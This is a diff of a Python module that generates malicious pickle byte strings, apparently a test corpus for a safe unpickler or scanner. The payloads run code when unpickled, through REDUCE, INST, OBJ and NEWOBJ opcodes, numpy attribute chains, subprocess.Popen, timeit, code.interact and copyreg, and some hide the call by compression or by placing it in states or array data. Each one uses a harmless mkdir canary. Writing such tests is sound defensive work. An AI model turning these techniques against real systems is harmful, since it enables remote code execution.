@@ -33,6 +33,12 @@ def _argument(module: str, attribute: str, canary: str) -> str:
 
 def execution(canary: str) -> Iterator[Attack]:
     """Code that runs in a stock unpickler, by every opcode that can run it."""
+    for group in (_called, _opcodes, _dotted, _elsewhere, _through_others, _in_states, _dressed, _registered):
+        yield from group(canary)
+
+
+def _called(canary: str) -> Iterator[Attack]:
+    """Functions that make the folder, by the three ways in which pickle spells a call."""
     for module, attribute in CREATORS:
         argument = _argument(module, attribute, canary)
         args = (
@@ -41,8 +47,11 @@ def execution(canary: str) -> Iterator[Attack]:
         yield f"exec-proto0-{module}.{attribute}", name(module, attribute) + b"(" + args + b"tR."
         yield f"exec-reduce-{module}.{attribute}", p(name(module, attribute) + b"(" + args + b"tR")
         yield f"exec-stack-global-{module}.{attribute}", p(stack_name(module, attribute) + b"(" + args + b"tR")
-    path = short(canary)
-    mkdir = name("os", "mkdir")
+
+
+def _opcodes(canary: str) -> Iterator[Attack]:
+    """Opcodes that call without REDUCE, and names and arguments that come from the memo."""
+    path, mkdir = short(canary), name("os", "mkdir")
     yield "exec-inst", b"(S'" + canary.encode() + b"'\nios\nmkdir\n."
     yield "exec-obj", b"(cos\nmkdir\nS'" + canary.encode() + b"'\no."
     yield "exec-newobj", p(name("subprocess", "Popen") + b"(" + short("mkdir") + path + b"l\x85\x81")
@@ -56,9 +65,19 @@ def execution(canary: str) -> Iterator[Attack]:
         p(short("os") + b"q\x05" + b"0" + short("mkdir") + b"q\x06" + b"0h\x05h\x06\x93" + path + b"\x85R"),
     )
     yield "exec-dup-argument", p(mkdir + path + b"\x85" + b"R" + b"0" + b"N2" + b"0")
+
+
+def _dotted(canary: str) -> Iterator[Attack]:
+    """Attributes of attributes, down from a name that is admitted."""
+    path = short(canary)
     yield "exec-dotted", p(stack_name("numpy", "lib._utils_impl.os.mkdir") + path + b"\x85R")
     yield "exec-dotted-core", p(stack_name("numpy._core.multiarray", "overrides.os.mkdir") + path + b"\x85R")
     yield "exec-dotted-ndarray", p(stack_name("numpy", "ndarray.__class__.__base__") + b")R")
+
+
+def _elsewhere(canary: str) -> Iterator[Attack]:
+    """The call stands where its answer is never used, or where the stream breaks off."""
+    path, mkdir = short(canary), name("os", "mkdir")
     yield "exec-before-bad-opcode", p(mkdir + path + b"\x85R" + b"\xff")
     yield "exec-before-truncation", b"\x80\x04" + mkdir + path + b"\x85R"
     yield "exec-before-second-pickle", p(mkdir + path + b"\x85R") + p(b"N")
@@ -67,6 +86,11 @@ def execution(canary: str) -> Iterator[Attack]:
     yield "exec-as-key", p(b"}" + mkdir + path + b"\x85RNs")
     yield "exec-popped", p(b"}" + short("x") + b"K\x01s" + mkdir + path + b"\x85R0")
     yield "exec-pop-mark", p(b"K\x01(" + mkdir + path + b"\x85R1")
+
+
+def _through_others(canary: str) -> Iterator[Attack]:
+    """Functions that call another one, or run text, for whoever names them."""
+    path, mkdir = short(canary), name("os", "mkdir")
     yield "exec-map", p(call(name("builtins", "list"), call(name("builtins", "map"), mkdir, path + b"\x85")))
     yield (
         "exec-getattr",
@@ -111,6 +135,11 @@ def execution(canary: str) -> Iterator[Attack]:
     )
     yield "exec-timeit", p(call(name("timeit", "main"), b"(" + short(f"import os; os.mkdir({canary!r})") + b"l"))
     yield "exec-code", p(call(name("code", "interact")))
+
+
+def _in_states(canary: str) -> Iterator[Attack]:
+    """The call hides in a state, a shape or an array's data."""
+    path, mkdir = short(canary), name("os", "mkdir")
     yield "exec-build-dict", p(call(name("types", "SimpleNamespace")) + b"}" + short("a") + mkdir + path + b"\x85Rsb")
     yield (
         "exec-build-slots",
@@ -118,11 +147,21 @@ def execution(canary: str) -> Iterator[Attack]:
     )
     yield "exec-in-array-data", p(_array_head() + mkdir + path + b"\x85R" + b"tb")
     yield "exec-in-shape", p(b"(" + mkdir + path + b"\x85R" + b"t")
+
+
+def _dressed(canary: str) -> Iterator[Attack]:
+    """The call in other clothes: compressed, after spaces, by old and by long opcodes."""
+    path, mkdir = short(canary), name("os", "mkdir")
     yield "exec-compressed", zlib.compress(p(mkdir + path + b"\x85R"))
     yield "exec-leading-space", b" \n" + p(mkdir + path + b"\x85R")
     yield "exec-proto1", b"(]q\x00" + mkdir + b"(S'" + canary.encode() + b"'\ntRa."
     yield "exec-long4-name", p(text("os") + text("mkdir") + b"\x93" + path + b"\x85R")
     yield "exec-bytes-name", p(b"C\x02osC\x05mkdir\x93" + path + b"\x85R")
+
+
+def _registered(canary: str) -> Iterator[Attack]:
+    """What goes by a registry: copyreg, extension codes, persistent ids, out-of-band buffers, a class's own reduce."""
+    path = short(canary)
     yield (
         "exec-copyreg",
         p(call(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N")),
